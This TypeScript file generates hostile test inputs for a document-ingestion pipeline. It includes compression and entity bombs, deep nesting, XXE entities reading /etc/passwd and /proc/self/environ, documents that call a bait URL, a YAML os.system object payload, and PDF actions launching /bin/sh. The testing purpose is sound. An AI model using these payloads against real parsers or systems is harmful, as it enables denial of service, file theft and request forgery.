/**
 * Files made to hurt a reader: seeded, small to keep, made one at a time on demand. A file never says how it has to
 * end; whoever sends it checks that nothing but itself was harmed.
 *
 * Of the kinds that are known, two have no reader here that they could hurt, and are sent to be refused: archives other
 * than ZIP (tar, gzip, brotli; a hard link is a thing of tar), and images, whose pixels nothing expands, neither alone
 * nor inside of documents.
 */
import { gzipSync } from 'node:zlib';
import { makePdf, toPdfContent } from '#modules/ingestion/testing/make-pdf.ts';
import { createSeededRandom, type SeededRandom } from '../../bench/harness/seeded-random.ts';
import { archives, archivesThatAreNotRead, images } from './hostile-containers.ts';
import { file, type HostileFile, type HostileOptions, million, text } from './hostile-file.ts';
import { oddNames } from './hostile-names.ts';
import { docxEntries, epubEntries, makeZip, partsOf, xlsxEntries } from './hostile-zip.ts';
import { validFiles } from './valid-files.ts';

export function* hostileFiles({ seed, full, bait }: HostileOptions): Generator<HostileFile> {
  const random = createSeededRandom(seed);
  yield* archives(full, bait);
  yield* bombs(full);
  yield* images(bait);
  yield* archivesThatAreNotRead(full, bait);
  yield* depths(full);
  yield* references(bait);
  yield* lies();
  yield* oddNames(bait);
  yield* longLines(full);
  yield* brokenFiles(random, full);
}

function* bombs(full: boolean): Generator<HostileFile> {
  const size = (full ? 700 : 300) * million;
  yield file('gzip named text', 'bomb.txt', () => gzipSync(Buffer.alloc(size)));
  yield file('a PDF that inflates', 'bomb.pdf', () => makePdf(Buffer.alloc(size, ' '), { compress: true }));
  yield file('a PDF of millions of words', 'words.pdf', () =>
    makePdf(`${toPdfContent([[12, 10, 10, 'bomb']])}\n`.repeat(full ? 10 * million : 3 * million), { compress: true }),
  );
  yield file('a PDF that claims a billion pages', 'pages.pdf', () =>
    text(
      makePdf(toPdfContent([[12, 10, 10, 'x']]))
        .toString('latin1')
        .replace('/Count 1', '/Count 999999999'),
    ),
  );
  yield file('a PDF whose pages hold themselves', 'loop.pdf', () =>
    text(makePdf('').toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]')),
  );
  yield file('merged cells over a whole sheet', 'merged.xlsx', () =>
    makeZip(
      xlsxEntries(
        '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData><mergeCells count="1"><mergeCell ref="A1:XFD1048576"/></mergeCells>',
      ),
    ),
  );
  yield file('a sheet of a million columns', 'columns.xlsx', () =>
    makeZip(
      xlsxEntries(
        `<sheetData><row r="1">${'<c t="inlineStr"><is><t>x</t></is></c>'.repeat(million)}</row></sheetData>`,
      ),
    ),
  );
  yield file('cells far apart in a sheet', 'far.xlsx', () =>
    makeZip(
      xlsxEntries(
        `<sheetData>${Array.from({ length: 20_000 }, (_, row) => `<row r="${row + 1}"><c r="A${row + 1}"><v>1</v></c><c r="XFD${row + 1}"><v>2</v></c></row>`).join('')}</sheetData>`,
      ),
    ),
  );
  yield file('more cells than are read', 'cells.xlsx', () =>
    makeZip(
      xlsxEntries(
        `<sheetData>${Array.from({ length: full ? 400_000 : 260_000 }, (_, row) => `<row r="${row + 1}">${'<c><v>1</v></c>'.repeat(6)}</row>`).join('')}</sheetData>`,
      ),
    ),
  );
  yield file('one long string in many cells', 'strings.xlsx', () => {
    const cells = Array.from(
      { length: full ? 100_000 : 20_000 },
      (_, row) => `<row r="${row + 1}"><c r="A${row + 1}" t="s"><v>0</v></c></row>`,
    );
    return makeZip(
      xlsxEntries(`<sheetData>${cells.join('')}</sheetData>`, `<sst><si><t>${'long '.repeat(100_000)}</t></si></sst>`),
    );
  });
  const laughs = Array.from({ length: 10 }, (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join(
    '',
  );
  const entities = `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY l0 "lol">${laughs}]><r>&l10;</r>`;
  yield file('a billion laughs', 'laughs.xml', () => text(entities));
  for (const extension of ['docx', 'xlsx', 'odt', 'pptx', 'epub'])
    yield file('a billion laughs inside', `laughs.${extension}`, () => makeZip(partsOf(extension, text(entities))));
  yield file('entities of quadratic size', 'quadratic.xml', () =>
    text(`<!DOCTYPE r [<!ENTITY a "${'x'.repeat(100_000)}">]><r>${'&a;'.repeat(100_000)}</r>`),
  );
  yield file('aliases of aliases', 'laughs.yaml', () =>
    text(
      [
        'a: &a [x,x]',
        ...Array.from(
          { length: 24 },
          (_, index) =>
            `b${index}: &${String.fromCharCode(98 + index)} [${`*${String.fromCharCode(97 + index)},`.repeat(9)}]`,
        ),
      ].join('\n'),
    ),
  );
  yield file('RTF that claims a terabyte', 'bin.rtf', () => text('{\\rtf1\\bin9999999999 x\\par text}'));
  yield file('a row of a million cells', 'wide.csv', () => text(`${'a,'.repeat(million)}\n${'1,\n'.repeat(100_000)}`));
  yield file('a quote that never ends', 'quote.csv', () => text(`a,b\n"${'x,\n'.repeat(million)}`));
  yield file('half a million headers', 'headers.eml', () => text(`${'X-A: b\r\n'.repeat(500_000)}\r\ntext`));
  yield file('a table of a million empty cells', 'table.html', () =>
    text(`<table><tr>${'<td>'.repeat(million)}x</table>`),
  );
  yield file('cells that claim to span everything', 'span.html', () =>
    text('<table>'.concat('<tr><td colspan=999999999 rowspan=999999999>x<td>y'.repeat(1_000))),
  );
}

function* depths(full: boolean): Generator<HostileFile> {
  const depth = full ? million : 100_000;
  const nest =
    (open: string, middle = 'x', close = ''): (() => Buffer) =>
    () =>
      text(open.repeat(depth) + middle + close.repeat(depth));
  yield file('deep lists', 'deep.json', nest('[', '1', ']'));
  yield file('deep objects', 'deep.json', nest('{"a":', '1', '}'));
  yield file('deep and cut off', 'deep.jsonl', nest('['));
  yield file('deep notebook', 'deep.ipynb', nest('{"cells":[', '1', ']}'));
  for (const element of ['div', 'blockquote', 'table><tr><td', 'ul><li', 'b', 'pre', 'svg'])
    yield file(`deep <${element}>`, 'deep.html', nest(`<${element}>`));
  yield file('deep elements inside', 'deep.epub', () => makeZip(epubEntries('<div>'.repeat(depth))));
  yield file('deep elements', 'deep.xml', nest('<a>', 'x', '</a>'));
  for (const mark of ['> ', '- ', '[', '![', '*', '**a ', '`', '<div>', '  - ', '# '])
    yield file(`Markdown of ${JSON.stringify(mark)}`, 'deep.md', nest(mark));
  yield file('deep groups', 'deep.rtf', () => text(`{\\rtf1 ${'{'.repeat(depth)}x${'}'.repeat(depth)}}`));
  yield file('deep parts', 'deep.eml', () =>
    text(
      Array.from(
        { length: 2_000 },
        (_, index) => `Content-Type: multipart/mixed; boundary=b${index}\r\n\r\n--b${index}\r\n`,
      ).join(''),
    ),
  );
  yield file('messages in messages', 'deep.eml', () => text('Content-Type: message/rfc822\r\n\r\n'.repeat(10_000)));
  yield file('deep keys', 'deep.yaml', () =>
    text(Array.from({ length: 2_000 }, (_, level) => `${' '.repeat(level)}a:`).join('\n')),
  );
  yield file('deep brackets', 'flow.yaml', nest('['));
  yield file('deep quotes', 'deep.org', nest('#+BEGIN_QUOTE\n'));
  yield file('deep directives', 'deep.rst', () =>
    text(Array.from({ length: 2_000 }, (_, level) => `${' '.repeat(level)}.. note::`).join('\n')),
  );
  yield file('deep blocks', 'deep.adoc', nest('====\n'));
}

/** Each asks its reader to open a file, call an address or start a program. */
function* references({ file: secret, url }: HostileOptions['bait']): Generator<HostileFile> {
  const entity = (target: string): string =>
    `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "${target}"><!ENTITY % p SYSTEM "${url}/dtd">%p;]><r>text &e;</r>`;
  for (const target of [`file://${secret}`, `${url}/xxe`, 'file:///etc/passwd', 'file:///proc/self/environ']) {
    yield file('an external entity', 'entity.xml', () => text(entity(target)));
    for (const extension of ['docx', 'xlsx', 'odt', 'epub'])
      yield file('an external entity inside', `entity.${extension}`, () =>
        makeZip(partsOf(extension, text(entity(target)))),
      );
  }
  const image = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/image';
  const drawing =
    '<w:p><w:r><w:t>text</w:t></w:r><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="rId9" r:link="rId9"/></w:drawing></w:r></w:p>';
  for (const target of [
    `file://${secret}`,
    `${url}/image.png`,
    '../../../../../../etc/passwd',
    '\\\\127.0.0.1\\share\\a.png',
  ])
    yield file('an external image', 'external.docx', () =>
      makeZip(
        docxEntries(drawing, `<Relationship Id="rId9" Type="${image}" Target="${target}" TargetMode="External"/>`),
      ),
    );
  yield file('a template from outside', 'template.docx', () =>
    makeZip(
      docxEntries(
        '<w:p><w:r><w:t>text</w:t></w:r></w:p>',
        `<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${url}/template.dotm" TargetMode="External"/>`,
      ),
    ),
  );
  yield file('HTML that calls', 'calls.html', () =>
    text(
      `<base href="${url}/"><link rel=stylesheet href="${url}/a.css"><meta http-equiv=refresh content="0;url=${url}"><script src="${url}/a.js"></script><img src="${url}/a.png" onerror="fetch('${url}')"><iframe src="file://${secret}"></iframe><object data="${url}/o"></object><p>text</p>`,
    ),
  );
  yield file('a message that calls', 'calls.eml', () =>
    text(
      `Subject: x\r\nContent-Type: message/external-body; access-type=URL; URL="${url}/body"\r\n\r\nContent-Type: text/plain\r\n\r\ntext`,
    ),
  );
  yield file('RTF that includes', 'include.rtf', () =>
    text(
      `{\\rtf1 text {\\field{\\*\\fldinst INCLUDETEXT "${secret}"}{\\fldrslt r}}{\\field{\\*\\fldinst INCLUDEPICTURE "${url}/p.png"}{\\fldrslt p}}}`,
    ),
  );
  yield file('RST that includes', 'include.rst', () =>
    text(
      `text\n\n.. include:: ${secret}\n\n.. csv-table:: t\n   :url: ${url}/t.csv\n\n.. raw:: html\n   :file: ${secret}\n`,
    ),
  );
  yield file('Org that includes', 'include.org', () =>
    text(`* text\n#+INCLUDE: "${secret}"\n#+SETUPFILE: ${url}/setup\n`),
  );
  yield file('AsciiDoc that includes', 'include.adoc', () =>
    text(`= text\n\ninclude::${secret}[]\n\ninclude::${url}/a[]\n`),
  );
  yield file('Markdown that includes', 'include.md', () =>
    text(`text ![x](${url}/a.png) {!${secret}!} {* ${secret} *}\n`),
  );
  yield file('YAML that makes objects', 'objects.yaml', () =>
    text(`a: !!python/object/apply:os.system ["touch x"]\nb: !!js/function "function(){ }"\nc: !include ${secret}\n`),
  );
  const pdf = makePdf(toPdfContent([[12, 10, 10, 'text']])).toString('latin1');
  for (const action of [
    `/S /URI /URI (${url})`,
    `/S /Launch /F (/bin/sh)`,
    `/S /JavaScript /JS (app.launchURL\\("${url}"\\))`,
    `/S /GoToR /F (${secret}) /D [0 /Fit]`,
    `/S /SubmitForm /F (${url})`,
  ])
    yield file('a PDF that acts', 'acts.pdf', () =>
      text(pdf.replace('/Type /Catalog', `/Type /Catalog /OpenAction << ${action} >>`)),
    );
}

function* lies(): Generator<HostileFile> {
  const good = validFiles();
  const extensions = [...new Set(Object.keys(good).map((name) => name.split('.').pop() ?? ''))];
  for (const extension of extensions) yield file('no bytes', `nothing.${extension}`, () => Buffer.alloc(0));
  for (const extension of extensions) yield file('one zero byte', `zero.${extension}`, () => Buffer.alloc(1));
  const others: [string, Buffer][] = [
    [
      'an image',
      Buffer.from(
        'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
        'base64',
      ),
    ],
    ['a program', Buffer.concat([text('\x7fELF\x02\x01\x01'), Buffer.alloc(4_000, 0x90)])],
    ['a script', text(`#!/bin/sh\ntouch /tmp/x\n`)],
    ['an archive', good['good.docx'] ?? Buffer.alloc(0)],
    ['a PDF', good['good.pdf'] ?? Buffer.alloc(0)],
  ];
  for (const [what, bytes] of others)
    for (const extension of extensions) yield file(`${what}, named .${extension}`, `lie.${extension}`, () => bytes);
  const polyglot = Buffer.concat([good['good.pdf'] ?? Buffer.alloc(0), good['good.docx'] ?? Buffer.alloc(0)]);
  for (const extension of ['pdf', 'docx', 'html', 'txt', 'zip'])
    yield file('PDF and archive in one', `polyglot.${extension}`, () => polyglot);
  yield file('image and page in one', 'gif.html', () => text('GIF89a/*<html><script>alert(1)</script><p>text*/'));
  yield file('two gigabytes of nothing', 'huge.txt', () => ({ sparseBytes: 2 ** 31 }));
}

/** One very long line of each sign, alone and in pairs, for each reader with patterns of its own: a slow pattern shows. */
function* longLines(full: boolean): Generator<HostileFile> {
  const signs = [
    ' ',
    '\t',
    '|',
    '-',
    '`',
    '*',
    '[',
    ']',
    '(',
    '<',
    '>',
    '&',
    '\\',
    '"',
    "'",
    '=',
    ':',
    '~',
    '{',
    '}',
    '.',
    '_',
    '#',
    '+',
    ';',
    '/',
    '@',
    '1',
    'a',
    '\u00A0',
    'ا',
    'あ',
  ];
  const length = full ? 400_000 : 60_000;
  const extensions = 'md txt html csv tsv json eml rtf xml yaml rst org adoc ts css pdf'.split(' ');
  for (const extension of extensions) {
    const starts: Record<string, string> = {
      rtf: '{\\rtf1 ',
      xml: '<a>',
      html: '<p>',
      eml: 'Subject: ',
      pdf: '%PDF-1.4\n',
    };
    const start = starts[extension] ?? '';
    yield file('long lines of one sign', `line.${extension}`, () =>
      text(start + signs.map((sign) => sign.repeat(length)).join('\n')),
    );
    yield file('long lines of two signs', `pair.${extension}`, () =>
      text(
        start +
          signs.map((sign, index) => `${sign}${signs[(index * 7 + 3) % signs.length]}`.repeat(length / 4)).join('\n'),
      ),
    );
    yield file('signs and a last letter', `tail.${extension}`, () =>
      text(start + signs.map((sign) => `a${sign.repeat(length / 2)}!`).join('\n\n')),
    );
    yield file('many short lines', `lines.${extension}`, () =>
      text(start + signs.map((sign) => `${sign}x\n`.repeat(length / 20)).join('')),
    );
  }
}

/** Every format cut at each sixteenth, and with bits turned over. */
function* brokenFiles(random: SeededRandom, full: boolean): Generator<HostileFile> {
  for (const [filename, bytes] of Object.entries(validFiles())) {
    for (let part = 1; part < 16; part += 1)
      yield file(`cut at ${part}/16`, filename, () => bytes.subarray(0, Math.floor((bytes.length * part) / 16)));
    const flips = full ? 60 : 6;
    for (let flip = 0; flip < flips; flip += 1) {
      const bent = Buffer.from(bytes);
      for (let count = 0; count < 1 + flip; count += 1) {
        const at = random.integer(bent.length);
        bent[at] = (bent[at] ?? 0) ^ (1 << random.integer(8));
      }
      yield file(`${flip + 1} bits turned`, filename, () => bent);
    }
  }
}
